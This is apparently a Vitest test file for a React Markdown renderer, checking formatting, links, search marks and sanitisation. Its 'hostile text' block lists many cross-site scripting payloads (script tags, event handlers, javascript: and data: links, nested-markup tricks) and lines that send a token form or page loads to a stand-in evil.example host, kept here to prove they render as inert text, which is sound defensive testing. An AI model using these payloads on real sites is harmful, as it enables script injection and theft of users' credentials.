import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { Markdown } from '../../web/src/ui/markdown.tsx'

/** The rendered HTML without the outer element. */
const shown = (text: string, marks: readonly string[] = []) =>
  renderToStaticMarkup(createElement(Markdown, { text, marks }))
    .replace(/^<div[^>]*>/, '')
    .replace(/<\/div>$/, '')

describe('rendered Markdown', () => {
  it('supports headings, emphasis, code, quotes and rules', () => {
    expect(shown('# Why\n\nWe **stream** by `SSE`, ~~not~~ *never* polling.\n\n> quoted\n\n---')).toBe(
      '<h3>Why</h3><p>We <strong>stream</strong> by <code>SSE</code>, <del>not</del> <em>never</em> polling.</p><blockquote><p>quoted</p></blockquote><hr/>',
    )
  })

  it('increases heading levels one at a time', () => {
    expect(shown('# a\n\n#### b\n\n## c')).toBe('<h3>a</h3><h4>b</h4><h4>c</h4>')
  })

  it('supports lists, tasks and tables', () => {
    expect(shown('3. three\n4. four')).toBe('<ol start="3"><li>three</li><li>four</li></ol>')
    expect(shown('- [x] shipped\n- [ ] next')).toBe(
      '<ul><li class="task"><input type="checkbox" disabled="" readOnly="" aria-label="done" checked=""/>shipped</li><li class="task"><input type="checkbox" disabled="" readOnly="" aria-label="open"/>next</li></ul>',
    )
    expect(shown('|a|b|\n|-|-:|\n|1|2|')).toBe(
      '<div class="table" role="group" aria-label="Table" tabindex="0"><table><thead><tr><th scope="col">a</th><th scope="col" style="text-align:right">b</th></tr></thead><tbody><tr><td>1</td><td style="text-align:right">2</td></tr></tbody></table></div>',
    )
  })

  it('links to other entries, to the web and to mailboxes, and shows pictures as links', () => {
    expect(shown('see [[sse-over-websockets-k3f9]]')).toBe(
      '<p>see <a href="#/vault?entry=sse-over-websockets-k3f9">sse-over-websockets-k3f9</a></p>',
    )
    expect(shown('[docs](https://example.com/a "t")')).toBe(
      '<p><a href="https://example.com/a" title="https://example.com/a" target="_blank" rel="noopener noreferrer">docs</a></p>',
    )
    expect(shown('![plan](https://example.com/p.png)')).toBe(
      '<p><a href="https://example.com/p.png" title="https://example.com/p.png" target="_blank" rel="noopener noreferrer">Image: plan</a></p>',
    )
    expect(shown('[the code](src/app.ts)')).toBe('<p>the code (src/app.ts)</p>')
  })

  it('marks the words of a search', () => {
    expect(shown('We stream by *streams*.', ['stream'])).toBe(
      '<p>We <mark>stream</mark> by <em><mark>stream</mark>s</em>.</p>',
    )
    expect(shown('a.b (c', ['.', '('])).toBe('<p>a<mark>.</mark>b <mark>(</mark>c</p>')
  })

  it('decodes entities once', () => {
    expect(shown('1 &lt; 2 &amp;&amp; &#51; &#x3e; 2 &bogus;')).toBe(
      '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &amp;bogus;</p>',
    )
    expect(shown('&lt;script&gt;alert(1)&lt;/script&gt;')).toBe(
      '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    )
  })
})

describe('a hostile text', () => {
  const HOSTILE = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<details open ontoggle=alert(1)>',
    '<template><script>alert(1)</script></template>',
    '<style>*{background:url(//evil.example)}</style>',
    '<form action=//evil.example><input name=token></form>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '</div></body><script>alert(1)</script>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](\tjavascript:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](&Tab;javascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '[x](//evil.example)',
    '[x](https:javascript:alert(1))',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '<javascript:alert(1)>',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '[[javascript:alert(1)]]',
    '[["onmouseover="alert(1)]]',
    '# <img src=x onerror=alert(1)>',
    '`<script>alert(1)</script>`',
    '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    '```html\n<script>alert(1)</script>\n```',
    '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
    '{{constructor.constructor("alert(1)")()}} $' + '{alert(1)} <%= 1 %>',
    '[x](https://example.com "\\" onmouseover=alert(1) x=\\"")',
    '**<b onclick=alert(1)>x</b>**',
  ]

  it.each(HOSTILE)('is text: %s', text => {
    const html = shown(text)
    const tags = html.match(/<[a-z][^>]*>/gi) ?? []
    const known =
      /^<(?:p|a|code|pre|em|strong|h3|br|ul|li|div|table|thead|tbody|tr|th|td|span|blockquote)(?: (?:class|role|aria-label|tabindex|scope|rel|target|title|href)="[^"]*")*>$/
    expect(tags.filter(tag => !known.test(tag))).toEqual([])
    const addresses = [...html.matchAll(/href="([^"]*)"/g)].map(([, address]) => address ?? '')
    expect(addresses.filter(address => !/^(?:https?:\/\/|mailto:|#\/vault\?entry=)/.test(address))).toEqual(
      [],
    )
  })

  it('shows characters that reorder the line or are invisible', () => {
    expect(shown('user\u202etxt.exe\u0007')).toBe('<p>user[U+202E]txt.exe[U+0007]</p>')
  })

  it('is shown as plain text when it is nested too deep', () => {
    expect(shown(`${'> '.repeat(9_000)}a`)).toContain('a</p>')
    expect(shown(`${'- '.repeat(300)}a`)).toContain('a')
    expect(shown(`${'['.repeat(9_000)}a`)).toContain('a')
    expect(shown(`${'_a*'.repeat(6_000)}end`)).toContain('end')
  })

  it('is cut when it is huge, with a button that shows all', () => {
    const html = shown('word '.repeat(100_000))
    expect(html).toContain('20000 of 500000 characters shown.')
    expect(html.length).toBeLessThan(25_000)
  })
})
